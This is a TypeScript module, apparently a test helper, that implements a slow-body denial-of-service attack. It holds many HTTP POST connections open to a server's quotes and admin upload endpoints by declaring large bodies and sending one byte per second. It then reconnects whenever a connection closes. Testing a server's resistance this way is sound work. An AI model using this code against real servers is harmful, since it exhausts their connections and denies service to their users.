import { type ClientRequest, request } from 'node:http'
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads'

const attacker = '127.0.0.2'
const everyMs = 1_000
const againAfterMs = 3_000

export interface SlowBodyAttack {
  open(): number
  stop(): Promise<void>
}

interface SlowBody {
  shell: string
  from: string
  path: string
  length: number
  /** Of an account of the attacker's: without one an upload is rejected before its body is read. */
  cookie: string
}

const drip = (body: SlowBody, live: Set<ClientRequest>): void => {
  const { shell, from, path, length, cookie } = body
  const sending = request(shell + path, {
    agent: false,
    localAddress: attacker,
    method: 'POST',
    headers: { origin: from, 'content-type': 'application/json', 'content-length': length, cookie },
  })
  live.add(sending)
  const timer = setInterval(() => sending.write('x'), everyMs)
  const again = () => {
    if (!live.delete(sending)) return
    clearInterval(timer)
    sending.destroy()
    setTimeout(() => drip(body, live), againAfterMs)
  }
  sending.on('error', again).on('close', again)
  sending.on('response', again)
  sending.write('x')
}

export interface SlowBodyAttackOptions {
  shell: string
  from: string
  cookie: string
  smallBodies: number
  largeBodies: number
}

export const startSlowBodyAttack = (options: SlowBodyAttackOptions): SlowBodyAttack => {
  let open = 0
  const thread = new Worker(new URL(import.meta.url), { workerData: options })
  thread.on('message', (count: number) => (open = count))
  return { open: () => open, stop: async () => void (await thread.terminate()) }
}

if (!isMainThread) {
  const { shell, from, cookie, smallBodies, largeBodies } = workerData as SlowBodyAttackOptions
  const live = new Set<ClientRequest>()
  for (let at = 0; at < smallBodies; at += 1) drip({ shell, from, cookie, path: '/api/v1/quotes', length: 200 }, live)
  for (let at = 0; at < largeBodies; at += 1)
    drip({ shell, from, cookie, path: '/api/v1/admin/releases/account/files', length: 300_000 }, live)
  // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a thread has no origin
  setInterval(() => parentPort?.postMessage(live.size), everyMs)
}
